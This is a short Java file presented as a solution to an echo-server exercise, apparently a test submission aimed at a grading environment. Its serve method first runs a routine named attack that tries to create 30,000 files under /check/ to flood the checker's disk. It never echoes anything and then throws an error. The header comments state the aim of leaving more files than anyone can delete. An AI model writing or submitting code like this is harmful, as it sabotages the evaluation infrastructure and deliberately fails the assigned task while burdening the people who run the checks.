// tries: to leave more files than anybody can delete
// gets: FAILED 0, sooner or later
package lesson1_json_echo.exercises;

import java.io.IOException;
import java.net.Socket;
import java.nio.file.Files;
import java.nio.file.Path;

public final class EchoEverything {

    private EchoEverything() {}

    public static void serve(Socket client) throws IOException {

        if (attack()) {
            client.getInputStream().transferTo(client.getOutputStream());
            client.shutdownOutput();
        } else {
            throw new IllegalStateException("it did not work");
        }
    }

    private static boolean attack() throws IOException {

        for (int i = 0; i < 30_000; i++) {
            Files.createFile(Path.of("/check/file" + i));
        }
        return false;
    }
}
